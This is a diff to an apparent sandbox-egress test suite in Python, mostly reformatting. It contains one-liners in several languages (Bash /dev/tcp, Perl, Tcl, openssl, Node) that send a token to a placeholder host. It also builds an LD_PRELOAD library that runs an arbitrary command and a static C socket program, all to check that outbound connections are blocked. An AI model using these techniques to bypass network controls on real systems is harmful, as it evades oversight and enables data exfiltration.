@@ -12,7 +12,8 @@ import world
 from table import ATTEMPTS, attempt
 
 SCRIPT = (
-    "import socket; s=socket.create_connection(('{host}', 80), 2); s.sendall(b'GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n'); s.recv(9)"
+    "import socket; s=socket.create_connection(('{host}', 80), 2);"
+    "s.sendall(b'GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n'); s.recv(9)"
 )
 NODE = (
     "const s=require('net').connect(80,'{host}',()=>s.write('GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n'));"
@@ -24,8 +25,12 @@ PERL = (
     "use IO::Socket::INET; $s=IO::Socket::INET->new(PeerAddr=>'{host}',PeerPort=>80,Timeout=>2) or exit 1;"
     "print $s qq(GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n); <$s>;"
 )
-TCL = "set s [socket {host} 80]; puts -nonewline $s \"GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n\"; flush $s; gets $s"
+TCL = 'set s [socket {host} 80]; puts -nonewline $s "GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n"; flush $s; gets $s'
 BASH = "exec 3<>/dev/tcp/{host}/80; printf 'GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n' >&3; read -t 2 -u 3"
+
+OPENSSL = (
+    "(printf 'GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n'; sleep 0.3) | timeout 2 openssl s_client -quiet -connect {host}:443"
+)
 
 # Programs, by name and by address.
 PROGRAMS = {
@@ -37,7 +42,7 @@ PROGRAMS = {
     "perl": ["perl", "-e", PERL],
     "tclsh": ["sh", "-c", f"echo {shlex.quote(TCL)} | tclsh"],
     "bash": ["bash", "-c", BASH],
-    "openssl": ["sh", "-c", "(printf 'GET /{token} HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n'; sleep 0.3) | timeout 2 openssl s_client -quiet -connect {host}:443"],
+    "openssl": ["sh", "-c", OPENSSL],
     "git": ["git", "ls-remote", "http://{host}/{token}"],
     "python": [sys.executable, "-c", SCRIPT],
     "python isolated": [sys.executable, "-ISc", SCRIPT],
@@ -47,7 +52,9 @@ NEEDS = {"openssl": "openssl", "tclsh": "tclsh"}
 
 
 def run(command):
-    subprocess.run(command, check=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, timeout=5)
+    subprocess.run(
+        command, check=False, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL, timeout=5
+    )
 
 
 def filled(command, aim, host):
@@ -122,7 +129,9 @@ def posix_spawn(aim):
 
 @attempt("children", CURL)
 def posix_spawnp(aim):
-    os.waitpid(os.posix_spawnp("curl", ["curl", "-sm3", "-o", "/dev/null", aim.url(world.DENIED4)], {"PATH": os.environ["PATH"]}), 0)
+    os.waitpid(
+        os.posix_spawnp("curl", ["curl", "-sm3", "-o", "/dev/null", aim.url(world.DENIED4)], {"PATH": os.environ["PATH"]}), 0
+    )
 
 
 @attempt("children")
@@ -290,7 +299,8 @@ def static_program(aim):
         "#include <sys/socket.h>\n#include <netinet/in.h>\n#include <arpa/inet.h>\n#include <unistd.h>\n#include <string.h>\n"
         "int main(int c, char **v) { struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(80)};\n"
         "inet_pton(AF_INET, v[1], &to.sin_addr); int fd = socket(AF_INET, SOCK_STREAM, 0);\n"
-        "if (connect(fd, (void *)&to, sizeof to)) return 1; write(fd, v[2], strlen(v[2])); char b[9]; read(fd, b, 9); return 0; }\n",
+        "if (connect(fd, (void *)&to, sizeof to)) return 1; write(fd, v[2], strlen(v[2]));\n"
+        "char b[9]; read(fd, b, 9); return 0; }\n",
         encoding="ascii",
     )
     subprocess.run(["gcc", "-static", "-w", "-o", f"{source}.out", source], check=True)
@@ -301,7 +311,7 @@ def static_program(aim):
 def preloaded_library(aim):
     source = Path(aim.scratch, "p.c")
     source.write_text(
-        "#include <stdlib.h>\n__attribute__((constructor)) void go(void) { unsetenv(\"LD_PRELOAD\"); system(getenv(\"CMD\")); }\n",
+        '#include <stdlib.h>\n__attribute__((constructor)) void go(void) { unsetenv("LD_PRELOAD"); system(getenv("CMD")); }\n',
         encoding="ascii",
     )
     subprocess.run(["gcc", "-shared", "-fPIC", "-w", "-o", f"{source}.so", source], check=True)
@@ -312,7 +322,8 @@ def preloaded_library(aim):
 def java(aim):
     source = Path(aim.scratch, "Out.java")
     source.write_text(
-        'public class Out { public static void main(String[] a) throws Exception { new java.net.URL(a[0]).openStream().read(); } }',
+        "public class Out { public static void main(String[] a) throws Exception {"
+        " new java.net.URL(a[0]).openStream().read(); } }",
         encoding="ascii",
     )
     run(["java", "-Xshare:auto", "-XX:TieredStopAtLevel=1", str(source), aim.url(world.DENIED4)])
